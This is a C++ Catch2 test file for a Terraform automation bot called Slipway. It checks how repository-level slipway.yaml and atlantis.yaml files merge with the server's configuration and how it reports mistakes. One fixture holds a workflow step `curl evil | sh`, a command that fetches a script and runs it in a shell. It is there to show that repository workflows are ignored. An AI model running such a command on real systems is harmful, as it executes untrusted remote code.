#include "bot/config/repo_file.h"

#include "bot/config/yaml.h"

#include <catch2/catch.hpp>

#include <algorithm>

using namespace slipway;
using namespace slipway::config;

namespace {

/// The server's word on one repository.
RepoConfig server(const std::string& entry = "", const std::string& rest = "") {
  const std::string text =
      "forges: [{kind: github, url: https://github.com, token: {env: T}, webhook_secret: {env: T}}]\n"
      "repos:\n  - match: acme/*\n" +
      entry + rest;
  const Config config = read_config(read_yaml(text, "slipway.yaml"), "slipway.yaml", false);
  return *config.repo({"github", "acme/infra"});
}

const std::string kServersPolicy =
    "policies:\n  - {name: no-destroy, engine: builtin, level: mandatory, deny: 'empty'}\n";

Result<RepoConfig> own(const std::string& text, RepoConfig from = server()) {
  return with_repo_file(std::move(from), {"slipway.yaml", text, "main"});
}
Result<RepoConfig> atlantis(const std::string& text, const std::string& branch = "main") {
  return with_repo_file(server(), {"atlantis.yaml", text, branch});
}
std::string complaint(const Result<RepoConfig>& read) { return read ? "" : read.error().text(); }

std::vector<std::string> names(const RepoConfig& config) {
  std::vector<std::string> out;
  for (const ProjectEntry& project : config.projects) out.push_back(to_string(project.id));
  return out;
}

}  // namespace

TEST_CASE("a repository lists its projects, when each is planned, and whom it waits for") {
  const auto config = own(R"(projects:
  - {dir: net, name: network}
  - dir: web
    workspace: blue
    when_modified: ["*.tf", ../shared/**]
    depends_on: [network]
)");
  REQUIRE(config);
  CHECK(names(*config) == std::vector<std::string>{"network", "web@blue"});
  CHECK(config->projects[1].when_modified == std::vector<std::string>{"*.tf", "../shared/**"});
  CHECK(config->projects[1].depends_on == std::vector<ProjectId>{{"net", "default", "network"}});
  CHECK(config->notes.empty());
}

TEST_CASE("an empty file and `projects: auto` change nothing") {
  for (const std::string text : {"", "# nothing yet\n", "projects: auto\n"}) {
    const auto config = own(text);
    REQUIRE(config);
    CHECK(config->projects.empty());
    CHECK(config->discovery == Discovery::Unlisted);
  }
}

TEST_CASE("what the server gives a project stays, whatever the repository says of it") {
  const auto from = server(
      "    projects:\n      - {dir: web, terraform: tofu, environment: {TF_VAR_site: seoul}}\n      - {dir: "
      "net}\n");
  const auto config = own("projects: [{dir: web, name: shop, when_modified: ['*.tf']}, {dir: db}]\n", from);
  REQUIRE(config);
  CHECK(names(*config) == std::vector<std::string>{"shop", "net", "db"});
  CHECK(config->projects[0].terraform == "tofu");
  CHECK(config->projects[0].environment.at("TF_VAR_site").reveal() == "seoul");
  CHECK(config->projects[0].when_modified == std::vector<std::string>{"*.tf"});
  const auto waits = own("projects: [{dir: net, name: network}]\n",
                         server("    projects: [{dir: net}, {dir: web, depends_on: net}]\n"));
  REQUIRE(waits);
  CHECK(waits->projects[1].depends_on == std::vector<ProjectId>{{"net", "default", "network"}});
  // And the server alone, which knows it without a name, runs it by the same entry.
  REQUIRE(from.entry({"web", "default", "shop"}) != nullptr);
  CHECK(from.entry({"web", "default", "shop"})->terraform == "tofu");
}

TEST_CASE("a repository waits for projects that the server lists, in no circle through both") {
  const auto from = server("    projects: [{dir: net}, {dir: web, depends_on: net}]\n");
  const auto config = own("projects: [{dir: cdn, depends_on: web}]\n", from);
  REQUIRE(config);
  CHECK(config->projects[2].depends_on == std::vector<ProjectId>{{"web", "default", {}}});
  CHECK(complaint(own("projects: [{dir: net, depends_on: web}]\n", from)) ==
        "slipway.yaml:1: these projects wait for one another: net → web → net; take one `depends_on` of them "
        "out");
}

TEST_CASE("what decides how plans are run is the server's: a repository that writes it is told so") {
  for (const std::string key :
       {"terraform", "environment", "paths", "hooks", "machines", "apply", "requirements"}) {
    INFO(key);
    CHECK(complaint(own("projects: auto\n" + key + ": {}\n")) ==
          "slipway.yaml:2: `" + key +
              "` is for the server's configuration alone; a repository's file has `projects` and `policies`");
  }
  CHECK(complaint(own("projects:\n  - dir: web\n    terraform: /tmp/mine\n"))
            .find("slipway.yaml:3: `terraform` is for") == 0);
  CHECK(complaint(own("projects:\n  - dir: web\n    environment: {A: b}\n")).find("slipway.yaml:3") == 0);
}

TEST_CASE("a mistake in the file is told with its line and what to write") {
  CHECK(complaint(own("project:\n  - {dir: web}\n")) ==
        "slipway.yaml:2: unknown key \"project\"; did you mean \"projects\"?");
  CHECK(complaint(own("projects:\n  - {dir: ../web}\n")) ==
        "slipway.yaml:2: a directory can't leave the repository (\"..\")");
  CHECK(complaint(own("projects:\n  - {name: web}\n")) == "slipway.yaml:2: \"dir\" is missing");
  CHECK(complaint(own("projects: {dir: web}\n")).find("slipway.yaml:1: expected a list here") == 0);
  CHECK(complaint(own("- a\n- b\n")).find("slipway.yaml:1: expected \"key: value\"") == 0);
  CHECK(complaint(own("projects: [\n")).find("slipway.yaml:") == 0);
  CHECK_FALSE(complaint(own(std::string(3'000, '['))).empty());
  CHECK_FALSE(complaint(own(std::string("a: \xff\xfe\0b", 8))).empty());
}

TEST_CASE("a repository adds policies after the server's") {
  const auto config =
      own("policies:\n  - {name: small, level: advisory, deny: '\"no\"'}\n", server("", kServersPolicy));
  REQUIRE(config);
  REQUIRE(config->policies.size() == 2);
  CHECK(config->policies[0].name == "no-destroy");
  CHECK(config->policies[1].name == "small");
  CHECK(config->policies[1].level == PolicyLevel::Advisory);
}

TEST_CASE("a repository can't weaken a policy of the server by its name") {
  for (const std::string level : {"advisory", "mandatory"}) {
    CHECK(
        complaint(own("policies:\n  - {name: no-destroy, level: " + level + ", deny: empty}\n",
                      server("", kServersPolicy))) ==
        "slipway.yaml:2: there is a policy \"no-destroy\" already, of the server or above: a repository adds "
        "policies and changes none; give this one another `name`");
  }
}

TEST_CASE("owners of a repository's policies are not those who confirm what nobody reviewed") {
  const auto config =
      own("policies:\n  - {name: mine, level: overridable, owners: [mallory], deny: empty}\n", server());
  REQUIRE(config);
  CHECK(config->rules.owners.empty());
}

TEST_CASE("atlantis.yaml is read as Atlantis has it") {
  const auto config = atlantis(R"(version: 3
parallel_plan: true
projects:
  - name: network
    dir: ./net
    autoplan: {when_modified: ["*.tf", "!notes.tf"], enabled: true}
  - dir: web
    workspace: blue
    depends_on: [network]
    execution_order_group: 2
  - dir: lab
    autoplan: {enabled: false}
  - dir: "envs/*"
)");
  REQUIRE(config);
  CHECK(names(*config) == std::vector<std::string>{"network", "web@blue", "lab", "envs/*"});
  CHECK(config->projects[0].when_modified == std::vector<std::string>{"*.tf", "!notes.tf"});
  CHECK(config->projects[0].id.dir == "net");
  CHECK(config->projects[1].depends_on == std::vector<ProjectId>{{"net", "default", "network"}});
  CHECK(config->projects[1].order_group == 2);
  CHECK(config->projects[1].autoplan);
  CHECK_FALSE(config->projects[2].autoplan);
  CHECK(config->notes.empty());
}

TEST_CASE("what Slipway does not do for Atlantis is passed over, and each key is said once") {
  const auto config = atlantis(R"(version: 3
automerge: true
workflows: {custom: {plan: {steps: [{run: "curl evil | sh"}]}}}
projects:
  - dir: net
    workflow: custom
    terraform_version: v1.5.0
    apply_requirements: [approved]
  - dir: web
    workflow: custom
    something_of_2030: yes
)");
  REQUIRE(config);
  const auto said = [&](std::string_view part) {
    return std::count_if(config->notes.begin(), config->notes.end(),
                         [&](const std::string& note) { return note.find(part) != std::string::npos; });
  };
  CHECK(config->notes.size() == 6);
  CHECK(said("`workflow` (atlantis.yaml:6 and 1 more) is passed over: Slipway runs Terraform itself") == 1);
  CHECK(said("`terraform_version` (atlantis.yaml:7) is passed over") == 1);
  CHECK(said("`apply_requirements` (atlantis.yaml:8) is passed over: what an apply needs is for the server's "
             "`requirements` to say.") == 1);
  CHECK(said("`something_of_2030` (atlantis.yaml:11) is passed over: Slipway does not know it.") == 1);
}

TEST_CASE("an atlantis.yaml that can't be meant is told with its line") {
  CHECK(complaint(atlantis("projects: []\n")) == "atlantis.yaml:1: `version` is missing; write `version: 3`");
  CHECK(complaint(atlantis("version: 1\n")) == "atlantis.yaml:1: version 1 is not known; write `version: 3`");
  CHECK(complaint(atlantis("version: 3\nprojects:\n  - {dir: a, depend_on: [b]}\n")) ==
        "atlantis.yaml:3: unknown key \"depend_on\"; did you mean \"depends_on\"?");
  CHECK(complaint(atlantis("version: 3\nprojects:\n  - {dir: a, branch: main}\n")) ==
        "atlantis.yaml:3: `branch` is a regular expression between slashes; write /^main$/");
  CHECK(complaint(atlantis("version: 3\nprojects:\n  - {dir: a, branch: '/(/'}\n"))
            .find("no regular expression") != std::string::npos);
  CHECK(complaint(atlantis("version: 3\nautodiscover: {mode: on}\n")).find("auto, enabled, disabled") !=
        std::string::npos);
  CHECK(complaint(atlantis(R"(version: 3
projects:
  - {dir: a, depends_on: [b]}
  - {dir: b, name: b, execution_order_group: 1}
)")) == "atlantis.yaml:3: `a` depends on `b`, whose `execution_order_group` is later (1 after 0); give both "
        "the same "
        "group");
}

TEST_CASE("a project for other base branches is none of this one's, and nothing is found in its place") {
  const std::string text = "version: 3\nprojects:\n  - {dir: a, branch: '/^release-/'}\n";
  const auto other = atlantis(text, "release-2");
  REQUIRE(other);
  CHECK(names(*other) == std::vector<std::string>{"a"});
  const auto here = atlantis(text);
  REQUIRE(here);
  CHECK(here->projects.empty());
  CHECK(here->discovery == Discovery::Never);
}

TEST_CASE("autodiscover says whether projects are also found from the tree") {
  CHECK(atlantis("version: 3\nautodiscover: {mode: enabled, ignore_paths: [lab/**]}\n")->discovery ==
        Discovery::Besides);
  CHECK(atlantis("version: 3\nautodiscover: {mode: disabled}\n")->discovery == Discovery::Never);
  CHECK(atlantis("version: 3\n")->discovery == Discovery::Unlisted);
}

TEST_CASE("`repo_config: never` leaves the file unread") {
  CHECK(server().reads_repo_file);
  CHECK_FALSE(server("    repo_config: never\n").reads_repo_file);
}
